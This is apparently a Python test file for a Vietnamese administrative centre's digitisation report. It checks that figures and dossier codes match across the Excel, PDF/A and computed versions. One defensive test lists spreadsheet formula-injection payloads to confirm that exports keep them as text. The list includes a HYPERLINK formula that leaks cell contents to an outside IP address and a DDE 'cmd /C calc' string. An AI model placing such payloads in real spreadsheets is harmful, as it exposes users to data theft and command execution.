"""The report of a period, as words, Excel and paper: the same figures, and every dossier behind them."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pypdfium2 as pdfium
import pytest

from desktop.document.file.check import check_pdfa
from desktop.report.digitisation import DigitisationReport, Indicator, digitisation_report
from desktop.report.printed import report_pdf
from desktop.report.workbook import report_xlsx
from tests.samples import MORNING
from tests.store.conftest import place, secrets, store  # noqa: F401
from tests.store.filling import fill

AT = datetime(2026, 4, 1, 2, 0, tzinfo=UTC)
UNIT = "Trung tâm Phục vụ hành chính công xã Mẫu"
SOME = DigitisationReport(
    first=date(2026, 1, 1),
    last=date(2026, 3, 31),
    indicators=(
        Indicator(name="Hồ sơ có thành phần đã số hóa", met=("H1", "H2"), all=("H1", "H2", "H3")),
        Indicator(name="Hồ sơ có kết quả điện tử", met=(), all=()),
    ),
    unsynchronised=("H3",),
)


def text_of(pdf: bytes) -> str:
    document = pdfium.PdfDocument(pdf)
    text = " ".join(" ".join(page.get_textpage().get_text_range().split()) for page in document)
    document.close()
    return text


def test_the_period_counts_whole_days_in_vietnam(store):  # noqa: F811
    work = fill(store, dossier_count=5, confirmed=2)
    day = MORNING.date()
    report = digitisation_report(store, day, day)
    synchronised = report.indicators[-1]
    assert (len(synchronised.met), len(synchronised.all), synchronised.percent) == (2, 5, "40.00")
    assert set(synchronised.missing) == {dossier.code for dossier in work.dossiers[2:]}
    assert report.scope == "Số liệu cục bộ, 3 hồ sơ chưa đồng bộ."
    other = date(2026, 3, 13)
    assert [one.percent for one in digitisation_report(store, other, other).indicators] == ["N/A"] * 4


def test_the_workbook_has_the_figures_and_the_dossiers_behind_them():
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(SOME, UNIT, AT)))
    figures = [[cell.value for cell in row] for row in book["Chỉ số"].iter_rows()]
    assert figures[1][:2] == ["Đơn vị", UNIT]
    assert figures[2][1] == "từ 01/01/2026 đến 31/03/2026"
    assert figures[4][1] == SOME.scope
    assert figures[-2] == ["Hồ sơ có thành phần đã số hóa", 2, 3, 66.67]
    assert figures[-1] == ["Hồ sơ có kết quả điện tử", 0, 0, "N/A"]
    dossiers = [[cell.value for cell in row] for row in book["Hồ sơ"].iter_rows(min_row=2)]
    assert dossiers == [
        ["H1", "đạt", "không tính"],
        ["H2", "đạt", "không tính"],
        ["H3", "chưa đạt", "không tính"],
    ]


def test_the_print_says_the_same_and_is_kept_for_long():
    pdf = report_pdf(SOME, UNIT, AT)
    assert check_pdfa(pdf) == []
    text = text_of(pdf)
    for part in (UNIT, "từ 01/01/2026 đến 31/03/2026", "2/3 (66.67 %)", "N/A", SOME.scope, "H3"):
        assert part in text


def test_a_long_list_goes_over_many_sheets_and_loses_none():
    codes = tuple(f"H99.12-260312-{number:05}" for number in range(700))
    many = DigitisationReport(
        first=SOME.first,
        last=SOME.last,
        indicators=(Indicator(name="Hồ sơ đã đồng bộ với tỉnh", met=(), all=codes),),
        unsynchronised=codes,
    )
    pdf = report_pdf(many, UNIT, AT)
    text = text_of(pdf)
    assert len(pdfium.PdfDocument(pdf)) > 1
    assert all(code in text for code in codes)


# What a spreadsheet would compute, or ask another program for, if it stood in a cell as a formula.
LIVE = (
    "=1+1",
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "#REF!",
    "=\x00\x0b1+1",
    "00123",
    "1e5",
)  # fmt: skip


@pytest.mark.parametrize("words", LIVE)
def test_what_others_wrote_is_text_in_every_cell_and_never_a_formula(words):
    tampered = DigitisationReport(
        first=SOME.first,
        last=SOME.last,
        indicators=(Indicator(name=words, met=(), all=(words,)),),
        unsynchronised=(),
    )
    data = report_xlsx(tampered, words, AT)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
    # As the file itself says it: no library's reading is believed.
    assert len(sheets) == 2
    assert not any(b"<f>" in sheet or b"<f " in sheet or b't="e"' in sheet for sheet in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [book["Chỉ số"]["B2"], book["Chỉ số"]["A8"], book["Hồ sơ"]["B1"], book["Hồ sơ"]["A2"]]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.value for cell in cells} == {re.sub(r"[\x00\x0b]", " ", words)}
    assert all(cell.quotePrefix for cell in cells) or words[0] not in "=+-@\t\r"
